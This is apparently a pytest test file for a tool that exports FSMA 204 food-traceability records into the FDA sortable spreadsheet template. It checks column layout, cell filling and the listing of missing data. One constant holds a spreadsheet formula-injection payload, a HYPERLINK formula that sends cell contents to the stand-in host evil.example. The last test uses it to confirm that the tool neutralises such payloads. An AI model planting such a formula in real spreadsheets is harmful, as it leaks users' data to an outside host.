"""FSMA 204's electronic sortable spreadsheet: the template's layout, every cell filled from a full
chain, and each thing the records do not know an empty cell *and* a listed missing element."""

from __future__ import annotations

import dataclasses
import json
from collections import Counter
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import pytest

from traceability.events import InputLot, OutputLot, Production, Receiving, ReferenceDocument, Shipment
from traceability.fsma_template import SHEETS, Form, form
from traceability.registry import Location, Organisation, Product
from traceability.tracking import Request, TrackingRecords

pytestmark = pytest.mark.unit

TEMPLATE = Path(__file__).parents[1] / "data" / "fda" / "sortable_spreadsheet_template.json"
START = datetime(2026, 11, 2, 8, 0, tzinfo=UTC)
DAY = timedelta(days=1)
PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"open me")&'
LOCATION = ("Physical Location Address", "City", "State", "Zip Code", "Country")
PLACE = ("Business Name", "Phone Number", *LOCATION)
PRODUCT = ("Product Name", "Brand", "Commodity", "Variety", "Packaging Size", "Packaging Style")


# --- a small chain, every element known ------------------------------------------------------------
#
# SEED-1 (made off the records' scope) -> BODY-1 (ORG-MOULD) -> TOY-1 (ORG-TOYS, from BODY-1 and SEED-1);
# BODY-1 shipped to and received by ORG-TOYS, TOY-1 shipped to and received by ORG-MART.


def chain(mark: str = "") -> TrackingRecords:
    """The chain; ``mark`` goes in front of every id and every master-data text."""
    def t(text: str) -> str:
        return mark + text

    def docs(kind: str, number: str) -> tuple[ReferenceDocument, ...]:
        return ReferenceDocument(t(kind), t(number)), ReferenceDocument(t("purchase_order"), t(f"PO-{number}"))

    seed = Production(t("ev-prd-seed"), t("ORG-SEED"), "farm", START - 9 * DAY, (),
                      (OutputLot(t("SEED-1"), t("PRD-SEED"), 500.0, t("kg")),), t("SEED-FARM"), t("FFR-1111"),
                      docs("batch_log", "BL-0"))
    body = Production(t("ev-prd-body"), t("ORG-MOULD"), "plant", START, (InputLot(t("SEED-1"), 50.0, t("kg")),),
                      (OutputLot(t("BODY-1"), t("PRD-BODY"), 1000.0, t("ea")),), t("MOULD-PLANT"), t("FFR-2222"),
                      docs("work_order", "WO-1"))
    toy = Production(t("ev-prd-toy"), t("ORG-TOYS"), "line A", START + 2 * DAY,
                     (InputLot(t("BODY-1"), 1000.0, t("ea")), InputLot(t("SEED-1"), 5.0, t("kg"))),
                     (OutputLot(t("TOY-1"), t("PRD-TOY"), 1000, t("ea")),), t("TOYS-PLANT"), t("FFR-3333"),
                     docs("production_log", "PL-1"))
    return TrackingRecords(
        Request("lots", lots=(t("BODY-1"), t("TOY-1"))), START + 30 * DAY, (t("BODY-1"), t("TOY-1")), (body, toy),
        (Shipment(t("ev-shp-body"), t("SHP-1"), t("BODY-1"), 1000.0, t("ea"), t("ORG-MOULD"), t("ORG-TOYS"),
                  t("Toys plant"), t("CN"), START + DAY, t("MOULD-PLANT"), t("TOYS-PLANT"),
                  docs("bill_of_lading", "B1")),
         Shipment(t("ev-shp-toy"), t("SHP-2"), t("TOY-1"), 400.0, t("ea"), t("ORG-TOYS"), t("ORG-MART"), t("Newark DC"),
                  t("US"), START + 3 * DAY, t("TOYS-DC"), t("MART-DC"), docs("asn", "ASN-2"))),
        (Receiving(t("ev-rcv-body"), t("RCV-1"), t("BODY-1"), 1000.0, t("ea"), t("ORG-MOULD"), t("ORG-TOYS"),
                   t("TOYS-PLANT"), START + DAY + DAY / 2, t("MOULD-PLANT"), t("SHP-1"), docs("receipt", "R-1")),
         Receiving(t("ev-rcv-toy"), t("RCV-2"), t("TOY-1"), 398.0, t("ea"), t("ORG-TOYS"), t("ORG-MART"),
                   t("MART-DC"), START + 20 * DAY, t("TOYS-DC"), t("SHP-2"), docs("receipt", "R-2"))),
        {t("SEED-1"): seed, t("BODY-1"): body, t("TOY-1"): toy},
        {org.org_id: org for org in (organisation(t, "ORG-SEED", "SEED-FARM"),
                                     organisation(t, "ORG-MOULD", "MOULD-PLANT"),
                                     organisation(t, "ORG-TOYS", "TOYS-PLANT", "TOYS-DC"),
                                     organisation(t, "ORG-MART", "MART-DC"))},
        {product.product_id: product for product in (product_of(t, "PRD-SEED"), product_of(t, "PRD-BODY"),
                                                     product_of(t, "PRD-TOY"))},
    )


def organisation(t: Callable[[str], str], org_id: str, *location_ids: str) -> Organisation:
    places = tuple(Location(t(loc), t(f"{loc} site"), t("US"), t("0614141000012"), t(f"1 {loc} Road"), 40.7, -74.2,
                            t("Newark"), t("NJ"), t("07102")) for loc in location_ids)
    return Organisation(t(f"ev-{org_id}"), t(org_id), t(f"{org_id} Inc."), t("US"), t("US-NJ"), (t("manufacturer"),),
                        START - 99 * DAY, t("+1 973 555 0100"), places)


def product_of(t: Callable[[str], str], product_id: str) -> Product:
    return Product(t(f"ev-{product_id}"), t(product_id), t("ORG-TOYS"), t(f"{product_id} name"), START - 99 * DAY,
                   t("Happy"), t("toys"), t("red"), t("1 car, 14 cm"), t("window box"), t("00012345600012"), t("toys"),
                   t("M-1"), t("a red car"))


#: Cells of rows, as (sheet, lot, header), with how many rows of that lot have them.
Cells = Counter[tuple[str, str, str]]
FULL = chain()
FULL_FORM = form(FULL)


# --- mending the chain, one thing at a time ----------------------------------------------------------


def with_org(records: TrackingRecords, org_id: str, **changes: object) -> TrackingRecords:
    orgs = dict(records.organisations)
    orgs[org_id] = dataclasses.replace(orgs[org_id], **changes)  # type: ignore[arg-type]
    return dataclasses.replace(records, organisations=orgs)


def without_org(records: TrackingRecords, org_id: str) -> TrackingRecords:
    return dataclasses.replace(records, organisations={k: v for k, v in records.organisations.items() if k != org_id})


def with_production(records: TrackingRecords, lot: str, **changes: object) -> TrackingRecords:
    made = dataclasses.replace(records.made[lot], **changes)  # type: ignore[arg-type]
    productions = tuple(made if p.event_id == made.event_id else p for p in records.productions)
    return dataclasses.replace(records, productions=productions, made={**records.made, lot: made})


def with_shipment(records: TrackingRecords, event_id: str, **changes: object) -> TrackingRecords:
    shipments = tuple(dataclasses.replace(s, **changes) if s.event_id == event_id else s  # type: ignore[arg-type]
                      for s in records.shipments)
    return dataclasses.replace(records, shipments=shipments)


def lot_column(sheet_name: str) -> int:
    sheet = next(s for s in SHEETS if s.name == sheet_name)
    return sheet.headers.index(("New " if sheet_name == "Transformation" else "") + "Traceability Lot Code")


def emptied(after: Form, before: Form = FULL_FORM) -> Cells:
    """The cells that had a value and now have none, as (sheet, lot, header), one per row."""
    cells: Cells = Counter()
    for sheet in SHEETS:
        for old, new in zip(before.rows[sheet.name], after.rows[sheet.name], strict=True):
            cells.update((sheet.name, str(old[lot_column(sheet.name)]), header)
                         for header, was, now in zip(sheet.headers, old, new, strict=True) if was != "" and now == "")
    return cells


def listed(result: Form) -> Cells:
    return Counter((gap.sheet, gap.lot, gap.element) for gap in result.missing)


def cells(sheet: str, lot: str, headers: tuple[str, ...], prefix: str = "", rows: int = 1) -> Cells:
    return Counter({(sheet, lot, prefix + header): rows for header in headers})


def place(sheet: str, lot: str, role: str, parts: tuple[str, ...] = PLACE, rows: int = 1) -> Cells:
    return cells(sheet, lot, parts, f"{role}: ", rows)


# --- the template -----------------------------------------------------------------------------------


def test_the_sheets_are_the_templates_sheets_with_its_columns_headers_elements_and_citations():
    template = json.loads(TEMPLATE.read_text(encoding="utf-8"))
    assert [(s["name"], s["cfr"], [(c["column"], c["header"], c["kde"], c["cfr"]) for c in s["columns"]])
            for s in template["sheets"]] == [
        (s.name, s.cfr, [(letter, c.header, c.kde, c.cfr) for letter, c in zip(s.letters, s.columns, strict=True)])
        for s in SHEETS]


def test_the_template_data_says_where_it_comes_from_and_what_could_not_be_checked():
    source = json.loads(TEMPLATE.read_text(encoding="utf-8"))["source"]
    assert source["file"] == "FSMAFoodTraceability-ElectronicSortableSpreadsheet-June2024.xlsx"
    assert source["url"] == "https://www.fda.gov/media/179617/download"
    assert source["pdf_url"] == "https://www.fda.gov/media/179616/download"
    assert source["date"] == "June 2024"
    assert "cell by cell" in source["note"] and "could not be fetched" in source["note"]


@pytest.mark.parametrize(("sheet", "letter", "header"), [
    ("Shipping", "A", "Traceability Lot Code"), ("Shipping", "D", "Product Name"), ("Shipping", "I", "Packaging Style"),
    ("Shipping", "J", "Immediate Subsequent Recipient: Business Name"), ("Shipping", "P", "Immediate Subsequent "
                                                                         "Recipient: Country"),
    ("Shipping", "Q", "Ship-From Location: Business Name"), ("Shipping", "X", "Ship Date"),
    ("Shipping", "Y", "Traceability Lot Code Source: Business Name"),
    ("Shipping", "AF", "Traceability Lot Code Source Reference"), ("Shipping", "AG", "Reference Document Type"),
    ("Shipping", "AJ", "Reference Document Number (2)"),
    ("Receiving", "J", "Immediate Previous Source: Business Name"), ("Receiving", "Q", "Receiving Location: Business "
                                                                      "Name"),
    ("Receiving", "X", "Receive Date"), ("Receiving", "AJ", "Reference Document Number (2)"),
    ("Transformation", "A", "Input Traceability Lot Code"), ("Transformation", "B", "Input Product Name"),
    ("Transformation", "H", "Input Quantity"), ("Transformation", "I", "Input Unit of Measure"),
    ("Transformation", "J", "New Traceability Lot Code"), ("Transformation", "K", "Transformation Location: Business "
                                                                                  "Name"),
    ("Transformation", "R", "Traceability Lot Code Source Reference"),
    ("Transformation", "S", "Date Transformation Completed"), ("Transformation", "T", "New Product Name"),
    ("Transformation", "Z", "New Quantity"), ("Transformation", "AA", "New Unit of Measure"),
    ("Transformation", "AB", "Reference Document Type"), ("Transformation", "AE", "Reference Document Number (2)"),
])
def test_each_element_sits_in_the_column_the_fda_file_puts_it_in(sheet: str, letter: str, header: str):
    found = next(s for s in SHEETS if s.name == sheet)
    assert dict(zip(found.letters, found.headers, strict=True))[letter] == header


def test_the_sheets_are_as_wide_as_the_templates_and_no_header_repeats_within_one():
    assert [(s.name, s.letters[-1]) for s in SHEETS] == [("Shipping", "AJ"), ("Receiving", "AJ"),
                                                          ("Transformation", "AE")]
    assert all(len(set(s.headers)) == len(s.headers) for s in SHEETS)


# --- filling it -------------------------------------------------------------------------------------


def test_a_full_chain_fills_every_column_of_every_row_and_lacks_nothing():
    assert {name: len(rows) for name, rows in FULL_FORM.rows.items()} == {
        "Shipping": 2, "Receiving": 2, "Transformation": 3}
    assert FULL_FORM.missing == () and FULL_FORM.complete
    for sheet in SHEETS:
        for row in FULL_FORM.rows[sheet.name]:
            assert len(row) == len(sheet.columns)
            assert [h for h, cell in zip(sheet.headers, row, strict=True) if cell == ""] == []


def test_a_shipment_row_takes_the_recipient_the_ship_from_location_and_the_lots_source_from_the_registry():
    row = dict(zip(SHEETS[0].headers, FULL_FORM.rows["Shipping"][1], strict=True))
    assert row["Traceability Lot Code"] == "TOY-1" and row["Quantity"] == 400.0 and row["Unit of Measure"] == "ea"
    assert (row["Product Name"], row["Packaging Size"]) == ("PRD-TOY name", "1 car, 14 cm")
    assert row["Immediate Subsequent Recipient: Business Name"] == "ORG-MART Inc."
    assert row["Immediate Subsequent Recipient: Physical Location Address"] == "1 MART-DC Road"
    assert row["Ship-From Location: Physical Location Address"] == "1 TOYS-DC Road"
    assert row["Ship Date"] == date(2026, 11, 5)
    assert row["Traceability Lot Code Source: Physical Location Address"] == "1 TOYS-PLANT Road"
    assert row["Traceability Lot Code Source Reference"] == "FFR-3333"
    assert [row[h] for h in ("Reference Document Type", "Reference Document Number", "Reference Document Type (2)",
                             "Reference Document Number (2)")] == [
        "Advance shipping notice", "ASN-2", "Purchase order", "PO-ASN-2"]


def test_a_transformation_has_one_row_per_input_lot_with_the_input_and_the_new_product():
    rows = [dict(zip(SHEETS[2].headers, row, strict=True)) for row in FULL_FORM.rows["Transformation"]]
    assert [(r["Input Traceability Lot Code"], r["New Traceability Lot Code"]) for r in rows] == [
        ("SEED-1", "BODY-1"), ("BODY-1", "TOY-1"), ("SEED-1", "TOY-1")]
    assert (rows[2]["Input Product Name"], rows[2]["Input Quantity"], rows[2]["Input Unit of Measure"]) == (
        "PRD-SEED name", 5.0, "kg")
    assert (rows[2]["New Product Name"], rows[2]["New Quantity"], rows[2]["Transformation Location: City"]) == (
        "PRD-TOY name", 1000, "Newark")
    assert rows[2]["Date Transformation Completed"] == date(2026, 11, 4)


def test_a_day_is_the_utc_day_of_the_event_and_rows_sort_by_day_then_lot_then_shipment():
    late = datetime(2026, 11, 4, 23, 30, tzinfo=timezone(timedelta(hours=-5)))  # 2026-11-05 04:30 UTC
    records = with_shipment(with_shipment(FULL, "ev-shp-toy", occurred_at=late), "ev-shp-body",
                            occurred_at=late + timedelta(hours=1), batch_id="A-LOT")
    rows = form(records).rows["Shipping"]
    assert [(row[0], row[23]) for row in rows] == [("A-LOT", date(2026, 11, 5)), ("TOY-1", date(2026, 11, 5))]


def test_an_unknown_reference_document_type_is_written_as_given():
    shipment = FULL.shipments[1]
    records = with_shipment(FULL, shipment.event_id, reference_documents=(ReferenceDocument("dock_sheet", "DS-9"),))
    row = dict(zip(SHEETS[0].headers, form(records).rows["Shipping"][1], strict=True))
    assert (row["Reference Document Type"], row["Reference Document Number"]) == ("dock_sheet", "DS-9")


def test_a_location_known_by_its_coordinates_gives_them_as_its_address():
    org = FULL.organisations["ORG-MART"]
    records = with_org(FULL, "ORG-MART", locations=(dataclasses.replace(org.locations[0], street=""),))
    row = dict(zip(SHEETS[0].headers, form(records).rows["Shipping"][1], strict=True))
    assert row["Immediate Subsequent Recipient: Physical Location Address"] == "40.7, -74.2"
    assert form(records).missing == ()


# --- what is not known: an empty cell, and a listed element -------------------------------------------


def test_an_organisation_without_a_phone_empties_its_phone_cells_and_lists_each():
    result = form(with_org(FULL, "ORG-MART", phone=""))
    expected = (place("Shipping", "TOY-1", "Immediate Subsequent Recipient", ("Phone Number",))
                + place("Receiving", "TOY-1", "Receiving Location", ("Phone Number",)))
    assert emptied(result) == listed(result) == expected
    why = "ORG-MART has no phone in the registry"
    assert {(gap.event_id, gap.why) for gap in result.missing} == {("ev-shp-toy", why), ("ev-rcv-toy", why)}


def test_an_unregistered_organisation_leaves_its_name_empty_and_the_shipments_country_stands_in():
    result = form(without_org(FULL, "ORG-MART"))
    recipient = PLACE[:-1]  # the country is the shipment's to_country
    expected = (place("Shipping", "TOY-1", "Immediate Subsequent Recipient", recipient)
                + place("Receiving", "TOY-1", "Receiving Location"))
    assert emptied(result) == listed(result) == expected
    row = dict(zip(SHEETS[0].headers, result.rows["Shipping"][1], strict=True))
    assert row["Immediate Subsequent Recipient: Business Name"] == ""
    assert row["Immediate Subsequent Recipient: Country"] == "US"
    assert {gap.why for gap in result.missing} == {"ORG-MART is not in the registry"}


def test_a_location_not_in_the_registry_is_missing_where_named_but_the_source_reference_stands_in_for_it():
    result = form(with_org(FULL, "ORG-MOULD", locations=()))
    as_source = (place("Shipping", "BODY-1", "Traceability Lot Code Source", LOCATION)
                 + place("Receiving", "BODY-1", "Traceability Lot Code Source", LOCATION))
    named = (place("Shipping", "BODY-1", "Ship-From Location", LOCATION)
             + place("Receiving", "BODY-1", "Immediate Previous Source", LOCATION)
             + place("Transformation", "BODY-1", "Transformation Location", LOCATION))
    assert emptied(result) == as_source + named
    assert listed(result) == named
    assert {gap.why for gap in result.missing} == {"ORG-MOULD has no location MOULD-PLANT in the registry"}


def test_a_blank_part_of_a_registered_location_is_listed_by_name():
    org = FULL.organisations["ORG-TOYS"]
    dc = dataclasses.replace(org.locations[1], postal_code="")
    result = form(with_org(FULL, "ORG-TOYS", locations=(org.locations[0], dc)))
    expected = (place("Shipping", "TOY-1", "Ship-From Location", ("Zip Code",))
                + place("Receiving", "TOY-1", "Immediate Previous Source", ("Zip Code",)))
    assert emptied(result) == listed(result) == expected
    assert result.missing[0].why == "ORG-TOYS's location TOYS-DC has no postal code in the registry"


def test_an_unregistered_product_empties_its_description_wherever_its_lots_appear():
    result = form(dataclasses.replace(FULL, products={k: v for k, v in FULL.products.items() if k != "PRD-TOY"}))
    expected = (cells("Shipping", "TOY-1", PRODUCT) + cells("Receiving", "TOY-1", PRODUCT)
                + cells("Transformation", "TOY-1", PRODUCT, "New ", rows=2))
    assert emptied(result) == listed(result) == expected
    assert {gap.why for gap in result.missing} == {"product PRD-TOY is not in the registry"}


def test_brand_commodity_and_variety_left_blank_by_a_registered_product_are_not_missing():
    products = {**FULL.products, "PRD-TOY": dataclasses.replace(FULL.products["PRD-TOY"], brand="", commodity="",
                                                                 variety="")}
    result = form(dataclasses.replace(FULL, products=products))
    blank = ("Brand", "Commodity", "Variety")
    assert emptied(result) == (cells("Shipping", "TOY-1", blank) + cells("Receiving", "TOY-1", blank)
                               + cells("Transformation", "TOY-1", blank, "New ", rows=2))
    assert result.missing == ()


def test_an_input_lot_with_no_production_record_has_no_product_description():
    result = form(dataclasses.replace(FULL, made={k: v for k, v in FULL.made.items() if k != "SEED-1"}))
    expected = cells("Transformation", "BODY-1", PRODUCT, "Input ") + cells("Transformation", "TOY-1", PRODUCT,
                                                                             "Input ")
    assert emptied(result) == listed(result) == expected
    assert {gap.why for gap in result.missing} == {"input lot SEED-1 has no production record"}
    assert {gap.event_id for gap in result.missing} == {"ev-prd-body", "ev-prd-toy"}


def test_a_lot_with_no_production_record_has_no_product_and_no_source_and_no_transformation_row():
    records = dataclasses.replace(FULL, productions=FULL.productions[1:],
                                  made={k: v for k, v in FULL.made.items() if k != "BODY-1"})
    result = form(records)
    source = (*(f"Traceability Lot Code Source: {part}" for part in PLACE), "Traceability Lot Code Source Reference")
    expected = (cells("Shipping", "BODY-1", (*PRODUCT, *source)) + cells("Receiving", "BODY-1", (*PRODUCT, *source))
                + cells("Transformation", "TOY-1", PRODUCT, "Input "))
    made_elsewhere = FULL_FORM.rows["Transformation"][1:]  # the row of BODY-1's own transformation is gone
    kept = dataclasses.replace(FULL_FORM, rows={**FULL_FORM.rows, "Transformation": made_elsewhere})
    assert emptied(result, kept) == listed(result) == expected
    assert {gap.why for gap in result.missing} == {"lot BODY-1 has no production record",
                                                    "input lot BODY-1 has no production record"}


def test_no_reference_document_lists_the_first_only_and_a_single_one_lacks_nothing():
    none = form(with_shipment(FULL, "ev-shp-toy", reference_documents=()))
    documents = ("Reference Document Type", "Reference Document Number")
    second = ("Reference Document Type (2)", "Reference Document Number (2)")
    assert emptied(none) == cells("Shipping", "TOY-1", (*documents, *second))
    assert listed(none) == cells("Shipping", "TOY-1", documents)
    assert none.missing[0].why == "the shipment names no reference document"
    one = form(with_shipment(FULL, "ev-shp-toy", reference_documents=FULL.shipments[1].reference_documents[:1]))
    assert emptied(one) == cells("Shipping", "TOY-1", second) and one.missing == ()


def test_a_source_reference_without_a_location_satisfies_shipping_and_receiving_but_not_the_transformation():
    result = form(with_production(FULL, "TOY-1", location_id=""))
    as_source = (place("Shipping", "TOY-1", "Traceability Lot Code Source", LOCATION)
                 + place("Receiving", "TOY-1", "Traceability Lot Code Source", LOCATION))
    transformed = place("Transformation", "TOY-1", "Transformation Location", LOCATION, rows=2)
    assert emptied(result) == as_source + transformed
    assert listed(result) == transformed
    assert {gap.why for gap in result.missing} == {
        "production ev-prd-toy names no location_id, only the TLC source reference FFR-3333"}


def test_a_production_with_neither_a_location_nor_a_reference_lacks_the_source_on_every_sheet():
    result = form(with_production(FULL, "TOY-1", location_id="", tlc_source_reference=""))
    source = (*(f"Traceability Lot Code Source: {part}" for part in LOCATION), "Traceability Lot Code Source Reference")
    expected = (cells("Shipping", "TOY-1", source) + cells("Receiving", "TOY-1", source)
                + place("Transformation", "TOY-1", "Transformation Location", LOCATION, rows=2)
                + cells("Transformation", "TOY-1", ("Traceability Lot Code Source Reference",), rows=2))
    assert emptied(result) == expected
    assert listed(result) == expected - cells("Transformation", "TOY-1", ("Traceability Lot Code Source Reference",),
                                              rows=2)


def test_a_production_that_uses_no_lot_still_has_its_row_saying_the_input_is_missing():
    result = form(with_production(FULL, "BODY-1", inputs=()))
    inputs = ("Input Traceability Lot Code", *(f"Input {p}" for p in PRODUCT), "Input Quantity",
              "Input Unit of Measure")
    assert emptied(result) == listed(result) == cells("Transformation", "BODY-1", inputs)
    assert result.missing[0].why == "production ev-prd-body records no input lot"


# --- formula injection ------------------------------------------------------------------------------


def test_every_text_cell_of_every_column_is_neutralised_and_numbers_and_days_pass():
    result = form(chain(PAYLOAD))
    assert result.missing == ()
    for sheet in SHEETS:
        for row in result.rows[sheet.name]:
            for header, cell in zip(sheet.headers, row, strict=True):
                if isinstance(cell, str):
                    assert cell.startswith("'" + PAYLOAD), (sheet.name, header, cell)
                else:
                    assert isinstance(cell, (int, float, date)), (sheet.name, header, cell)
